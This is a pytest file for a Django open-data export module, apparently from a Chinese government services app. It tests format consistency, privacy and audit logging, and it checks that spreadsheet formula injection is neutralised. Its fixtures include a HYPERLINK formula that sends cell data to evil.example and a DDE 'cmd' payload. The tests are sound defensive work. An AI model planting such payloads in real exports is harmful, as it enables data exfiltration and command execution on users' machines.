"""A data set's files: CSV (UTF-8 with BOM), JSON and XLSX read back with the same rows; a cell a spreadsheet
would run as a formula stays text; and no personal data reaches any file, whatever the records hold."""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pytest
from openpyxl import load_workbook

from tests.cases.conftest import APPLICANT, file, local
from tests.cases.test_evaluation import concluded
from tests.cases.test_stats import october_cases
from tests.opendata.conftest import TODAY, dataset
from yimen.cases.models import Channel, Level
from yimen.cases.services import evaluations
from yimen.core.models import AuditEntry, OutboxMessage
from yimen.opendata import services
from yimen.opendata.models import Dataset, Distribution, Format, Openness, SourceCode
from yimen.org.models import Window

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def stored(found: Dataset, fmt: str) -> bytes:
    distribution = Distribution.objects.get(dataset=found, format=fmt)
    with distribution.file.open("rb") as handle:
        return handle.read()


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the Chinese
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_rows(content: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(content), read_only=True)["数据"]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_the_three_formats_read_back_with_the_same_rows(licence, instant, cast) -> None:
    found = dataset(cast)
    files = {d.format: d for d in Distribution.objects.filter(dataset=found)}
    assert set(files) == set(Format.values)
    header = list(found.columns)
    assert header[:3] == ["实施编码", "基本编码", "事项名称"]

    table = csv_rows(stored(found, Format.CSV))
    assert table[0] == header and len(table) == 3
    sheet = xlsx_rows(stored(found, Format.XLSX))
    assert sheet[0] == header and len(sheet) == 3
    document = json.loads(stored(found, Format.JSON))
    assert document["identifier"] == found.identifier and document["columns"] == header
    assert document["record_count"] == 2 and len(document["records"]) == 2

    by_code = {r["实施编码"]: r for r in document["records"]}
    for csv_row, xlsx_row in zip(table[1:], sheet[1:], strict=True):
        record = by_code[csv_row[0]]
        assert csv_row == [str(record[c]) for c in header]
        assert xlsx_row == [
            record[c] if record[c] != "" else None for c in header
        ]  # 到现场次数 stays a number

    for fmt, distribution in files.items():
        content = stored(found, fmt)
        assert distribution.record_count == 2
        assert distribution.byte_size == len(content)
        assert distribution.sha256 == hashlib.sha256(content).hexdigest()
    assert [["" if c is None else str(c) for c in row] for row in found.preview] == table[1:]


def test_a_formula_in_a_title_stays_text_in_csv_and_xlsx(cast, desk) -> None:
    desk.published(title=HOSTILE, document_number="+cmd|' /C calc'!A0")
    found = dataset(cast, source=SourceCode.PUBLICATIONS, title="主动公开信息目录")
    [header, row] = csv_rows(stored(found, Format.CSV))
    assert (row[header.index("标题")], row[header.index("文号")]) == ("'" + HOSTILE, "'+cmd|' /C calc'!A0")
    book = load_workbook(io.BytesIO(stored(found, Format.XLSX)))
    cells = [cell for row in book["数据"].iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no formula anywhere
    assert "'" + HOSTILE in [cell.value for cell in cells]
    # JSON is no spreadsheet: the text as it is.
    [record] = json.loads(stored(found, Format.JSON))["records"]
    assert record["标题"] == HOSTILE


def test_a_window_named_like_a_formula_stays_text(cast) -> None:
    Window.objects.create(
        number="A001", name="@SUM(1+1)*cmd", is_comprehensive=True, supervision_phone="-1+1"
    )
    found = dataset(cast, source=SourceCode.WINDOWS, title="窗口")
    hostile = csv_rows(stored(found, Format.CSV))[1]
    assert (hostile[1], hostile[5]) == ("'@SUM(1+1)*cmd", "'-1+1")


def test_no_personal_data_reaches_any_file(licence, instant, cast, desk) -> None:
    """The applicants of the cases (name, phone, ID number, address) and what they wrote in an evaluation
    never appear in a data set, in any format, nor in its preview."""
    october_cases(licence, instant, cast)
    file(licence, cast)
    evaluations.evaluate(
        case=concluded(licence, cast),
        level=Level.DISSATISFIED,
        channel=Channel.WINDOW,
        comment=f"我是{APPLICANT.name}，电话{APPLICANT.phone}，请回电",
        at=local(2024, 10, 2, 9),
    )
    desk.published()
    secrets = [APPLICANT.name, APPLICANT.phone, APPLICANT.id_number, APPLICANT.address, "请回电"]
    for code in SourceCode.values:
        found = dataset(cast, source=code, title=f"数据集 {code}", published=False)
        services.regenerate(dataset=found, by=cast.admin, today=TODAY)
        found.refresh_from_db()
        assert Distribution.objects.get(dataset=found, format=Format.CSV).record_count > 0, code
        texts = [
            stored(found, Format.CSV).decode("utf-8-sig"),
            stored(found, Format.JSON).decode(),
            json.dumps(xlsx_rows(stored(found, Format.XLSX)), ensure_ascii=False, default=str),
            json.dumps(found.preview, ensure_ascii=False),
        ]
        for text in texts:
            assert not [s for s in secrets if s in text], code


def test_regenerating_replaces_the_files_and_is_audited(
    licence, cast, django_capture_on_commit_callbacks
) -> None:
    found = dataset(cast)
    first = Distribution.objects.get(dataset=found, format=Format.CSV)
    old_name = first.file.name
    Distribution.objects.filter(pk=first.pk).update(download_count=7)
    with django_capture_on_commit_callbacks(execute=False) as removals:
        services.regenerate(dataset=found, by=cast.admin)
    again = Distribution.objects.get(pk=first.pk)
    assert again.file.name != old_name and again.download_count == 7  # a new file, the count kept
    assert again.file.storage.exists(again.file.name)
    assert again.file.storage.exists(old_name)  # kept until the generation commits
    for remove in removals:
        remove()
    assert not again.file.storage.exists(old_name)
    entries = AuditEntry.objects.filter(action="opendata.dataset_regenerated", object_id=str(found.pk))
    assert entries.count() == 2  # publishing generated the first files
    assert entries.last().summary["after"]["records"] == 1
    assert OutboxMessage.objects.filter(name="opendata.dataset_regenerated").count() == 2


def test_a_conditional_data_set_is_generated_as_any_other(licence, cast) -> None:
    found = dataset(cast, openness=Openness.CONDITIONAL)
    assert Distribution.objects.filter(dataset=found).count() == 3
